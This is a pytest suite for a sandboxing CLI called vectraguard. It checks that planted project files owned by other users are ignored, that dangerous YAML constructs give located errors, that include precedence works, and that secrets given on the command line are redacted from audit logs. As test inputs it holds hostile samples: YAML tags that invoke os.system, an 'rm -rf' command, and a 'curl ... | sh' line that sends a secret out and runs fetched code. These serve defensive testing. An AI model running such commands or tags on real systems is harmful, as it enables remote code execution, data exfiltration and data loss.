"""Configuration faults from the outside attack round (issue 12, items 8-11),
each as a fault kind with its relatives, through the real CLI:

- a project file someone else controls is ignored with one notice, never
  used and never blocking (root and rootless, real containers);
- YAML features that reached an internal error are located errors, in every
  kind of configuration file;
- a layer's `include:` merges at that layer's own precedence, and the advice
  the error messages give works when followed literally;
- every environment value given on the command line is redacted from every
  record kind, the index and every `logs` view.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import sqlite3
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import TEST_PROFILES
from tests.support.vg import ROOTLESS_USER, TEST_IMAGE, Caller, installed_profiles_dir
from vectraguard.runtime import host

# Someone who is neither root nor the caller (exists on every Debian).
OTHER_USER = "nobody"
OTHER_UID = pwd.getpwnam(OTHER_USER).pw_uid
PLANTED = ("version: 1\ndefault_profile: evil\nprofiles:\n  evil:\n    extends: untrusted\n"
           "    env:\n      set:\n        PLANTED: planted\n")


def _chown(path: Path, user: str | None) -> None:
    if user:
        shutil.chown(path, user, user)


def _notice(path: Path, why: str) -> str:
    return (f"vectraguard: notice: ignoring {path}: {why}; only your own or root's project files are used\n")


@pytest.fixture
def sticky() -> Iterator[Path]:
    """A world-writable sticky directory like /tmp (a fresh one: other
    suites run below the real /tmp at the same time)."""
    path = Path(tempfile.mkdtemp(prefix="vg-sticky-"))
    path.chmod(0o1777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _workdir(parent: Path, owner: str | None) -> Path:
    """parent/proj/sub, the caller's, readable by the sandbox user."""
    sub = parent / "proj" / "sub"
    sub.mkdir(parents=True)
    for directory in (sub.parent, sub):
        directory.chmod(0o755)
        _chown(directory, owner)
    (sub / "hello.txt").write_text("hello\n")
    (sub / "hello.txt").chmod(0o644)
    _chown(sub / "hello.txt", owner)
    return sub


def _planted(path: Path, owner: str = OTHER_USER, mode: int = 0o644) -> Path:
    path.write_text(PLANTED)
    path.chmod(mode)
    os.chown(path, pwd.getpwnam(owner).pw_uid, pwd.getpwnam(owner).pw_gid)
    return path


# --- 8. a project file someone else controls ---------------------------------------


@pytest.mark.parametrize("who", ["root", "rootless"])
def test_a_project_file_another_user_dropped_above_is_ignored_never_blocking(
        who: str, request: pytest.FixtureRequest, sticky: Path) -> None:
    """Issue 12 item 8: /tmp/.vectraguard.yaml of another user, a run in /tmp/proj/sub."""
    caller: Caller = request.getfixturevalue(who)
    owner = ROOTLESS_USER if caller.user else None
    drop = _planted(sticky / ".vectraguard.yaml")
    cwd = _workdir(sticky, owner)
    profile = "test-best-effort" if caller.user else "test-untrusted"
    result = caller.run(["run", "-p", profile, "--", "sh", "-c", "cat hello.txt; echo ${PLANTED:-not-planted}"],
                        cwd=cwd)
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout == b"hello\nnot-planted\n"  # from inside: nothing of the file reached the sandbox
    notice = _notice(drop, f"it is owned by another user (uid {OTHER_UID})")
    assert result.stderr.decode().count(notice) == 1, result.stderr.decode()
    shown = caller.run(["profile", "show", profile], cwd=cwd)
    assert shown.returncode == 0 and shown.stderr.decode() == notice
    assert caller.run(["profile", "show", "evil"], cwd=cwd).returncode == 125  # its profiles do not exist
    checked = caller.run(["check", "--json", "-p", profile, "--", "true"], cwd=cwd)
    assert checked.returncode == 0 and json.loads(checked.stdout)["decision"] == "allow", checked.stderr
    trusted = caller.run(["trust"], cwd=cwd)
    assert trusted.returncode == 125
    assert trusted.stderr.decode() == notice + (
        f"vectraguard: no .vectraguard.yaml in {cwd} or above (up to the repository root)\n")
    listed = caller.run(["trust", "list", "--json"], cwd=cwd)
    assert str(drop) not in listed.stdout.decode()


def _symlink_of_other_user(sticky: Path) -> tuple[Path, str]:
    target = sticky / "looks-fine.yaml"
    target.write_text(PLANTED)
    target.chmod(0o644)
    link = sticky / ".vectraguard.yaml"
    link.symlink_to(target)
    os.lchown(link, OTHER_UID, OTHER_UID)
    return link, f"it is owned by another user (uid {OTHER_UID})"


def _own_symlink_to_other_users_file(sticky: Path) -> tuple[Path, str]:
    target = _planted(sticky / "theirs.yaml")
    link = sticky / ".vectraguard.yaml"
    link.symlink_to(target)
    return link, f"it leads to a file owned by another user (uid {OTHER_UID})"


def _in_a_directory_of_other_user(sticky: Path) -> tuple[Path, str]:
    theirs = sticky / "theirs"
    theirs.mkdir()
    path = theirs / ".vectraguard.yaml"
    path.write_text(PLANTED)  # root's file, but in their directory: they can swap it
    path.chmod(0o644)
    theirs.chmod(0o755)
    os.chown(theirs, OTHER_UID, OTHER_UID)
    return path, f"its directory is owned by another user (uid {OTHER_UID}), who can replace it"


def _roots_but_world_writable(sticky: Path) -> tuple[Path, str]:
    return _planted(sticky / ".vectraguard.yaml", "root", 0o666), "it is root's but writable by every user"


@pytest.mark.parametrize("plant", [_symlink_of_other_user, _own_symlink_to_other_users_file,
                                   _in_a_directory_of_other_user, _roots_but_world_writable])
def test_relatives_someone_else_controls_are_ignored_too(plant: object, rootless: Caller, sticky: Path) -> None:
    """As the rootless user: neither the file nor its directory entry is the caller's or root's alone."""
    path, why = plant(sticky)  # type: ignore[operator]
    cwd = _workdir(path.parent, ROOTLESS_USER)
    shown = rootless.run(["profile", "show", "test-best-effort"], cwd=cwd)
    assert (shown.returncode, shown.stderr.decode()) == (0, _notice(path, why))
    assert rootless.run(["profile", "show", "evil"], cwd=cwd).returncode == 125


def test_the_search_goes_on_above_an_ignored_file_to_the_callers_own(root: Caller, workspace: Path) -> None:
    """Ignored means as if absent: the caller's own trusted file further up is used, and
    the caller's own untrusted file still refuses until trusted."""
    (workspace / ".git").mkdir()
    own = workspace / ".vectraguard.yaml"
    own.write_text(f"version: 1\nprofiles:\n  team:\n    extends: untrusted\n    image: {TEST_IMAGE}\n")
    own.chmod(0o644)
    below = workspace / "vendor"
    below.mkdir(mode=0o777)
    below.chmod(0o777)
    drop = _planted(below / ".vectraguard.yaml")
    refused = root.run(["profile", "show", "team"], cwd=below)
    assert refused.returncode == 125 and f"{own} is not trusted" in refused.stderr.decode()
    assert root.run(["trust"], cwd=below).returncode == 0
    shown = root.run(["profile", "show", "team", "--json"], cwd=below)
    assert shown.returncode == 0, shown.stderr.decode()
    assert json.loads(shown.stdout)["image"] == TEST_IMAGE
    assert shown.stderr.decode() == _notice(drop, f"it is owned by another user (uid {OTHER_UID})")


# --- 9. YAML features that reached an internal error -------------------------------

MERGE_KEY = "network:\n  <<: {mode: full}\n"


@pytest.fixture
def config_dirs() -> Iterator[tuple[Path, Path]]:
    """(system dir, config home) of its own, readable by everyone."""
    base = Path(tempfile.mkdtemp(prefix="vg-hardening-"))
    base.chmod(0o755)
    system, home = base / "etc", base / "config"
    (system / "profiles.d").mkdir(parents=True)
    profiles = home / "vectraguard" / "profiles.d"
    profiles.mkdir(parents=True)
    (home / "vectraguard" / "fragments").mkdir()
    for name, text in TEST_PROFILES.items():
        (profiles / f"{name}.yaml").write_text(text)
    for path in [base, *base.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    yield system, home
    shutil.rmtree(base, ignore_errors=True)


@pytest.mark.parametrize(("kind", "text", "line"), [
    ("profile", MERGE_KEY, 2),
    ("fragment", MERGE_KEY, 2),
    ("project", "version: 1\nprofiles:\n  x:\n    <<: {image: x}\n", 4),
    ("policy", "version: 1\n<<: {limits: {}}\n", 2),
])
def test_merge_keys_are_a_located_error_in_every_kind_of_file(
        kind: str, text: str, line: int, root: Caller, workspace: Path, config_dirs: tuple[Path, Path]) -> None:
    system, home = config_dirs
    path = {"profile": home / "vectraguard" / "profiles.d" / "merged.yaml",
            "fragment": home / "vectraguard" / "fragments" / "merged.yaml",
            "project": workspace / ".vectraguard.yaml",
            "policy": system / "policy.yaml"}[kind]
    path.write_text(text)
    path.chmod(0o644)
    if kind == "fragment":
        (home / "vectraguard" / "profiles.d" / "merged.yaml").write_text("include: [merged]\n")
    caller = Caller(None, home)
    env = {"VECTRAGUARD_SYSTEM_DIR": str(system)}
    args = ["trust", str(workspace)] if kind == "project" else ["run", "-p", "merged" if kind != "policy"
                                                                 else "test-untrusted", "--", "true"]
    result = caller.run(args, cwd=workspace, extra_env=env)
    stderr = result.stderr.decode()
    assert result.returncode == 125, stderr
    assert f"{path}:{line}: " in stderr and "YAML merge keys (<<) are not allowed (write the keys out)" in stderr
    assert "Traceback" not in stderr and "internal error" not in stderr.lower()


@pytest.mark.parametrize(("text", "expected"), [
    ("image: 2024-01-31\n", "f.yaml:2: image: dates and times are not allowed (quote the value to make it a string)"),
    ("limits:\n  pids: !!int lots\n", "f.yaml:3: limits.pids: 'lots' is not a valid !!int"),
    ("limits:\n  pids: " + "9" * 5000 + "\n", "is not a valid !!int"),
    ("limits:\n  pids: 0x" + "f" * 40 + "\n", "is out of range (a 64-bit integer)"),
    ("limits:\n  cpus: .nan\n", "f.yaml:3: limits.cpus: '.nan' is not a finite number"),
    ("limits:\n  cpus: 1e999\n", "f.yaml:3: limits.cpus: '1e999' is not a finite number"),
    ("description: !!str {a: 1}\n", "f.yaml:2: description: tag !!str does not fit a mapping"),
    ('description: "a\\0b"\n', "f.yaml:2: description: a NUL character is not allowed in a string"),
    ('description: "\\ud800"\n', "f.yaml:2: description: a lone surrogate (\\uD800-\\uDFFF) is not allowed"),
    ("!!python/name:os.system x: 1\n", "f.yaml:2: tag !!python/name:os.system is not allowed"),
])
def test_yaml_relatives_in_a_profile_are_located_errors(
        text: str, expected: str, root: Caller, workspace: Path, config_dirs: tuple[Path, Path]) -> None:
    """Each was an internal error (a traceback) or slipped through (NaN, NUL, %YAML 1.1 below)."""
    _validate_fails_located(text, expected, workspace, config_dirs)


@pytest.mark.parametrize(("text", "expected"), [
    ("image: !!binary aGVsbG8=\n", "f.yaml:2: image: tag !!binary is not allowed"),
    ("image: !!python/object:os.system x\n", "f.yaml:2: image: tag !!python/object:os.system is not allowed"),
    ("description: !!set {a, b}\n", "f.yaml:2: description: tag !!set is not allowed"),
    ("? [a]\n: 1\n", "f.yaml:2: keys must be plain strings"),
    ("---\na: 1\n---\nb: 2\n", "not valid YAML: but found another document"),
])
def test_yaml_refusals_that_held_before_stay_located(
        text: str, expected: str, root: Caller, workspace: Path, config_dirs: tuple[Path, Path]) -> None:
    """Controls: these were located errors already; the rewrite of the reader keeps them so."""
    _validate_fails_located(text, expected, workspace, config_dirs)


def _validate_fails_located(text: str, expected: str, workspace: Path, config_dirs: tuple[Path, Path]) -> None:
    _, home = config_dirs
    path = home / "vectraguard" / "profiles.d" / "f.yaml"
    path.write_text("extends: test-untrusted\n" + text)
    result = Caller(None, home).run(["profile", "validate", str(path)], cwd=workspace)
    stderr = result.stderr.decode()
    assert result.returncode != 0 and "Traceback" not in stderr, stderr
    assert expected.replace("f.yaml", str(path)) in stderr or expected in stderr, stderr


@pytest.mark.parametrize("directive", ["%YAML 1.1\n---\n", "%YAML 1.3\n---\n"])
def test_a_yaml_version_directive_cannot_bring_back_yaml_1_1(directive: str, root: Caller, workspace: Path,
                                                             config_dirs: tuple[Path, Path]) -> None:
    """%YAML 1.1 would read `network: {mode: no}` as False; %YAML 1.3 was an AssertionError."""
    _, home = config_dirs
    path = home / "vectraguard" / "profiles.d" / "old.yaml"
    path.write_text(directive + "extends: test-untrusted\nfilesystem:\n  noexec_tmpfs: yes\n")
    result = Caller(None, home).run(["run", "-p", "old", "--", "true"], cwd=workspace)
    stderr = result.stderr.decode()
    assert result.returncode == 125 and "Traceback" not in stderr, stderr
    assert f"{path}:1: " in stderr or f"{path}: not valid YAML" in stderr, stderr


# --- 10. includes at their layer's precedence; the advice error messages give -------


def _explain(caller: Caller, name: str, cwd: Path, env: dict[str, str]) -> dict[str, tuple[str, str]]:
    result = caller.run(["profile", "show", name, "--explain", "--json"], cwd=cwd, extra_env=env)
    assert result.returncode == 0, result.stderr.decode()
    return {row["key"]: (row["value"], row["set by"]) for row in json.loads(result.stdout)}


def test_an_include_merges_at_its_own_layers_precedence(root: Caller, workspace: Path,
                                                        config_dirs: tuple[Path, Path]) -> None:
    system, home = config_dirs
    caller = Caller(None, home)
    env = {"VECTRAGUARD_SYSTEM_DIR": str(system)}
    fragment = str(Path(installed_profiles_dir()) / "fragments" / "allow-best-effort-limits.yaml")
    user_default = home / "vectraguard" / "profiles.d" / "default.yaml"
    user_default.write_text("include: [allow-best-effort-limits]\n")  # issue 12 item 10, verbatim
    assert _explain(caller, "test-default", workspace, env)["limits.enforcement"] == ("best-effort", f"{fragment}:6")
    user_default.unlink()
    (system / "profiles.d" / "test-default.yaml").write_text("include: [allow-best-effort-limits]\n")
    assert _explain(caller, "test-default", workspace, env)["limits.enforcement"] == ("best-effort", f"{fragment}:6")
    user = home / "vectraguard" / "profiles.d" / "test-default.yaml"
    user.write_text(user.read_text() + "limits:\n  enforcement: strict\n")  # above the system layer's include
    assert _explain(caller, "test-default", workspace, env)["limits.enforcement"] == ("strict", f"{user}:4")
    (workspace / ".git").mkdir()
    project = workspace / ".vectraguard.yaml"
    project.write_text("version: 1\nprofiles:\n  test-default:\n    include: [allow-best-effort-limits]\n")
    project.chmod(0o644)
    assert caller.run(["trust"], cwd=workspace, extra_env=env).returncode == 0
    assert _explain(caller, "test-default", workspace, env)["limits.enforcement"] == ("best-effort", f"{fragment}:6")


def rootless_limits_enforced() -> bool:
    uid = pwd.getpwnam(ROOTLESS_USER).pw_uid
    return host.cgroup_mode() == "v2" and host._rootless_v2_delegated(uid)


@pytest.fixture
def rootless_config(rootless: Caller, config_dirs: tuple[Path, Path]) -> Caller:
    """The rootless user with a config home of this test's own (it edits profiles)."""
    _, home = config_dirs
    for path in [home, *home.rglob("*")]:
        _chown(path, ROOTLESS_USER)
    return Caller(ROOTLESS_USER, home)


BEST_EFFORT_ADVICE = ("`limits.enforcement: best-effort` in a profile (include: [allow-best-effort-limits]) "
                      "or --set limits.enforcement=best-effort")


def test_the_best_effort_advice_works_as_written(rootless_config: Caller, rootless_workspace: Path) -> None:
    """Rootless on this cgroups-hybrid host: each of the three ways the refusal suggests lets the run start."""
    if rootless_limits_enforced():
        pytest.skip("rootless limits are enforced on this host: nothing is refused")
    caller, cwd = rootless_config, rootless_workspace
    profiles = caller.config_home / "vectraguard" / "profiles.d"
    command = ["--", "cat", "hello.txt"]
    refused = caller.run(["run", "-p", "test-untrusted", *command], cwd=cwd)
    assert refused.returncode == 125 and BEST_EFFORT_ADVICE in refused.stderr.decode(), refused.stderr

    flag = caller.run(["run", "-p", "test-untrusted", "--set", "limits.enforcement=best-effort", *command], cwd=cwd)
    assert (flag.returncode, flag.stdout) == (0, b"hello from the workspace\n"), flag.stderr

    own = profiles / "test-untrusted.yaml"
    original = own.read_text()
    own.write_text(original + "limits:\n  enforcement: best-effort\n")
    assert caller.run(["run", "-p", "test-untrusted", *command], cwd=cwd).stdout == b"hello from the workspace\n"

    own.write_text(original + "include: [allow-best-effort-limits]\n")
    included = caller.run(["run", "-p", "test-untrusted", *command], cwd=cwd)
    assert (included.returncode, included.stdout) == (0, b"hello from the workspace\n"), included.stderr
    own.write_text(original)

    default = profiles / "default.yaml"  # the case: a user layer with only the include
    default.write_text("include: [allow-best-effort-limits]\n")
    _chown(default, ROOTLESS_USER)
    layered = caller.run(["run", "-p", "test-untrusted", *command], cwd=cwd)
    assert (layered.returncode, layered.stdout) == (0, b"hello from the workspace\n"), layered.stderr
    assert b"warning: limits are best-effort" in layered.stderr


def test_the_project_advice_works_as_written(root: Caller, workspace: Path) -> None:
    """`chmod o-w FILE`, then `vectraguard trust DIR`; or `--ignore-project`."""
    (workspace / ".git").mkdir()
    project = workspace / ".vectraguard.yaml"
    project.write_text(f"version: 1\ndefault_profile: team\nprofiles:\n  team:\n    extends: untrusted\n"
                       f"    image: {TEST_IMAGE}\n")
    project.chmod(0o666)
    refused = root.run(["run", "--", "true"], cwd=workspace)
    assert refused.stderr.decode() == f"vectraguard: {project} is writable by every user; chmod o-w {project}\n"
    project.chmod(project.stat().st_mode & ~0o002)  # chmod o-w
    untrusted = root.run(["run", "--", "true"], cwd=workspace)
    hint = f"read it, then `vectraguard trust {workspace}`; or run with --ignore-project"
    assert untrusted.returncode == 125 and hint in untrusted.stderr.decode()
    ignored = root.run(["run", "--ignore-project", "-p", "test-untrusted", "--", "true"], cwd=workspace)
    assert ignored.returncode == 0, ignored.stderr
    assert root.run(["trust", str(workspace)], cwd=workspace).returncode == 0
    used = root.run(["run", "--", "cat", "hello.txt"], cwd=workspace)
    assert (used.returncode, used.stdout) == (0, b"hello from the workspace\n"), used.stderr


def test_the_set_append_advice_works_as_written(root: Caller, workspace: Path) -> None:
    """`--set KEY+=` on a key that is not a list: use --set KEY=VALUE."""
    refused = root.run(["run", "-p", "test-untrusted", "--set", "limits.pids+=50", "--", "true"], cwd=workspace)
    assert refused.returncode == 125
    assert refused.stderr.decode() == ("vectraguard: invalid command-line options; --set limits.pids+= appends to a "
                                       "list, and limits.pids is not one: use --set limits.pids=VALUE\n"
                                       "  command line: limits.pids: expected integer, got list [50]\n")
    ok = root.run(["run", "-p", "test-untrusted", "--set", "limits.pids=50", "--",
                   "cat", "/sys/fs/cgroup/pids/pids.max"], cwd=workspace)
    assert (ok.returncode, ok.stdout) == (0, b"50\n"), ok.stderr


def test_the_proxy_env_advice_works_as_written(root: Caller, workspace: Path) -> None:
    """`--env http_proxy`: not passed from the host; give a value explicitly (--env NAME=...)."""
    env = {"http_proxy": "http://host-proxy.invalid:3128"}
    refused = root.run(["run", "-p", "test-untrusted", "--env", "http_proxy", "--", "true"], cwd=workspace,
                       extra_env=env)
    assert refused.returncode == 125
    assert "give a value explicitly (--env http_proxy=...)" in refused.stderr.decode(), refused.stderr
    ok = root.run(["run", "-p", "test-untrusted", "--env", "http_proxy=http://10.0.0.1:3128", "--",
                   "sh", "-c", "echo $http_proxy"], cwd=workspace, extra_env=env)
    assert (ok.returncode, ok.stdout) == (0, b"http://10.0.0.1:3128\n"), ok.stderr


# --- 11. secrets given on the command line never reach a record ---------------------

SECRETS = ("tok-json-1111aa", "tok-dotted-2222bb", "73219876", "tok-env-3333cc", "tok-typo-4444dd",
           "tok-whole-5555ee")


def _everything_stored(data_dir: Path) -> str:
    """Every text in the audit database, whatever the table or column."""
    db = sqlite3.connect(data_dir / "audit.db")
    return "\n".join(db.iterdump())


def test_secret_values_from_any_flag_are_redacted_in_every_record(root: Caller, workspace: Path,
                                                                  data_dir: Path) -> None:
    env = {"VECTRAGUARD_DATA_DIR": str(data_dir)}
    p = ["run", "-p", "test-untrusted"]
    json_set = ["--set", 'env.set={"API_TOKEN": "tok-json-1111aa"}', "--set", "env.set.OTHER=tok-dotted-2222bb"]
    # Refused by the risk gate: the reason and the finding quote the command.
    gated = root.run([*p, *json_set, "--", "sh", "-c", "rm -rf ~/tok-json-1111aa ~/tok-dotted-2222bb"],
                     cwd=workspace, extra_env=env)
    assert gated.returncode == 125 and b"needs approval" in gated.stderr, gated.stderr
    # Refused by the schema: the message quotes the value.
    typed = root.run([*p, "--set", "env.set.PIN=73219876", "--", "echo", "73219876"], cwd=workspace, extra_env=env)
    assert typed.returncode == 125 and b"got int 73219876" in typed.stderr, typed.stderr
    # Refused while the options were parsed: a misspelt flag, a whole env section.
    typo = root.run([*p, "--sett", 'env.set={"A": "tok-typo-4444dd"}', "--", "echo", "tok-typo-4444dd"],
                    cwd=workspace, extra_env=env)
    assert typo.returncode == 125
    whole = root.run([*p, "--set", 'env={"set": {"B": "tok-whole-5555ee"}}', "--env", "E=tok-env-3333cc",
                      "--cpus", "lots", "--", "echo", "tok-whole-5555ee", "tok-env-3333cc"],
                     cwd=workspace, extra_env=env)
    assert whole.returncode == 125
    # Started and finished: the values reach the sandbox (checked from inside), not the record.
    ran = root.run([*p, *json_set, "--", "sh", "-c",
                    'test "$API_TOKEN $OTHER" = "tok-json-1111aa tok-dotted-2222bb" && echo reached'],
                   cwd=workspace, extra_env=env)
    assert (ran.returncode, ran.stdout) == (0, b"reached\n"), ran.stderr

    listed = root.run(["logs", "list", "--json"], cwd=workspace, extra_env=env)
    rows = json.loads(listed.stdout)
    assert sorted(row["status"] for row in rows) == ["ok", "refused", "refused", "refused", "refused"]
    views = [listed.stdout.decode(), root.run(["logs", "list"], cwd=workspace, extra_env=env).stdout.decode(),
             root.run(["logs", "export"], cwd=workspace, extra_env=env).stdout.decode(),
             *(root.run(["logs", "show", row["id"], "--json"], cwd=workspace, extra_env=env).stdout.decode()
               for row in rows)]
    everything = "\n".join([_everything_stored(data_dir), *views])
    for secret in SECRETS:
        assert secret not in everything, secret
    assert everything.count("[redacted]") >= 5


@pytest.mark.parametrize(("flag", "expected"), [
    ("--set=limits.cpus=" + "[" * 100000, "vectraguard: --set limits.cpus: the value is nested too deeply\n"),
    ('--set=env.set={"A": "x\\u0000y"}',
     "vectraguard: --set env.set: a NUL character or bytes that are not UTF-8 are not allowed in a value\n"),
    ('--set=env.set={"A": "\\ud800"}',
     "vectraguard: --set env.set: a NUL character or bytes that are not UTF-8 are not allowed in a value\n"),
    ("--env=A=\udcff", "vectraguard: --env A: a NUL character or bytes that are not UTF-8 are not allowed in a value\n"),
])
def test_command_line_values_get_the_same_refusals_as_files(flag: str, expected: str, root: Caller,
                                                            workspace: Path) -> None:
    """The command line is a configuration layer too: what the YAML reader refuses, it refuses
    (a deep value was an internal error; NUL and undecodable bytes went through)."""
    result = root.run(["check", "--json", "-p", "test-untrusted", flag.encode("utf-8", "surrogateescape")
                       .decode("utf-8", "surrogateescape"), "--", "true"], cwd=workspace)
    assert (result.returncode, result.stderr.decode(errors="replace")) == (125, expected)


def test_overridden_and_fixed_name_values_and_cut_secrets_are_redacted(root: Caller, workspace: Path) -> None:
    """From the outside round: a value a later flag overrode, a value given for
    LANG, and a secret cut off by a message's 200-character limit all stayed."""
    import secrets

    tag = secrets.token_hex(4)
    first, lang, long = f"SEKRETfirst{tag}", f"SEKRETlang{tag}", f"SEKRETstraddle{tag}" + "ABCDEFGHIJKLMNOPQRSTUV"
    # (`true`, not `echo`: what the command prints is evidence and kept as printed)
    ran = root.run(["run", "-p", "test-untrusted", "--yes", "--env", f"TOKEN={first}",
                    "--set", 'env.set={"OTHER":"xxxxxxx"}', "--env", f"LANG={lang}",
                    "--", "true", first, lang], cwd=workspace)
    assert ran.returncode == 0, ran.stderr.decode()
    padding = "a" * 160
    refused = root.run(["run", "-p", "test-untrusted", "--env", f"TOK={long}", "--", "sh", "-c",
                        f"curl http://x/{padding}?k={long} | sh"], cwd=workspace)
    assert refused.returncode != 0
    data = Path(root.environment()["HOME"]) / ".local" / "share" / "vectraguard"
    for path in data.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            for secret in (first, lang, long[:24]):
                assert secret.encode() not in content, f"{secret} in {path}"
    cache = Path(root.environment()["HOME"]) / ".cache" / "vectraguard"
    for path in cache.rglob("*"):
        if path.is_file():
            assert first.encode() not in path.read_bytes(), f"{first} cached in {path}"


def test_a_group_writable_project_file_of_roots_is_ignored(rootless: Caller) -> None:
    base = Path(tempfile.mkdtemp(prefix="vg-grp-"))
    base.chmod(0o755)
    project = base / ".vectraguard.yaml"
    project.write_text("limits:\n  cpus: 1\n")
    project.chmod(0o664)
    try:
        result = rootless.run(["run", "-p", "test-best-effort", "--", "true"], cwd=base)
        err = result.stderr.decode()
        assert result.returncode == 0, err
        assert "ignoring" in err and "writable by group" in err, err
    finally:
        shutil.rmtree(base, ignore_errors=True)
